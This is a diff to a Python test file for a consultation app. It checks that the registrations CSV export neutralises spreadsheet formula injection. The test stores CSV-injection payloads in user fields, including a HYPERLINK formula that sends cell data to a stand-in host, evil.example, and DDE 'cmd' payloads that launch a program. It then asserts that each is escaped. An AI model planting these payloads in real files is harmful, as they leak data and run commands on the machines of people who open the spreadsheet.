@@ -277,21 +277,48 @@ def test_registration_is_refused_when_not_open(client, make_consultation):
     assert "Registration for this consultation is not open." in response.get_data(as_text=True)
 
 
+#: What spreadsheets may run as a formula at the start of a cell.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def read_csv(response) -> list[dict]:
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    text = response.get_data(as_text=True)
+    assert text.startswith("\ufeff")
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
 def test_the_export_lists_registrations_and_defuses_spreadsheet_formulas(
-    app, session, open_consultation, make_user, facilitator_client
+    app, session, open_consultation, make_user, register, facilitator_client, start
 ):
     consultation = open_consultation()
-    make_user(email="p1@example.org", name="=HYPERLINK(\"http://evil\")")
-    register_as(app, "p1@example.org", consultation)
+    question = RegistrationQuestion(consultation_id=consultation.id, prompt=f"{start}1+2",
+                                    kind=QuestionKind.short_text)
+    session.add(question)
+    registration = register(make_user(email="p1@example.org"), consultation)
+    # Set past the forms, which strip leading spaces: the export trusts no stored text.
+    registration.user.name = f'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
+    registration.organisation = f"{start}cmd|' /C calc'!A0"
+    registration.notes = f"{start}SUM(1+1)*cmd|' /C calc'!A0"
+    session.add(RegistrationAnswer(registration=registration, question=question,
+                                   value=f"{start}2+5"))
+    register(make_user(email="p2@example.org", name="Aïssatou Ndiaye — الهلال الأحمر",
+                       organisation="Mauritanian Red Crescent"), consultation)
     facilitator = facilitator_client(consultation)
 
-    response = facilitator.get(f"/c/{consultation.slug}/registrations.csv")
+    rows = read_csv(facilitator.get(f"/c/{consultation.slug}/registrations.csv"))
 
-    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
-    assert response.mimetype == "text/csv"
-    assert [row["email"] for row in rows] == ["p1@example.org"]
-    assert rows[0]["name"].startswith("'=")
-    assert rows[0]["organisation"] == "Mauritanian Red Crescent"
+    by_email = {row["email"]: row for row in rows}
+    assert set(by_email) >= {"p1@example.org", "p2@example.org"}
+    defused = by_email["p1@example.org"]
+    assert defused["name"] == f'\'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
+    assert defused["organisation"] == f"'{start}cmd|' /C calc'!A0"
+    assert defused["notes"] == f"'{start}SUM(1+1)*cmd|' /C calc'!A0"
+    assert defused[f"'{start}1+2"] == f"'{start}2+5"
+    assert by_email["p2@example.org"]["name"] == "Aïssatou Ndiaye — الهلال الأحمر"
+    assert by_email["p2@example.org"]["organisation"] == "Mauritanian Red Crescent"
 
 
 def test_the_list_filters_and_counts_by_stakeholder_group(
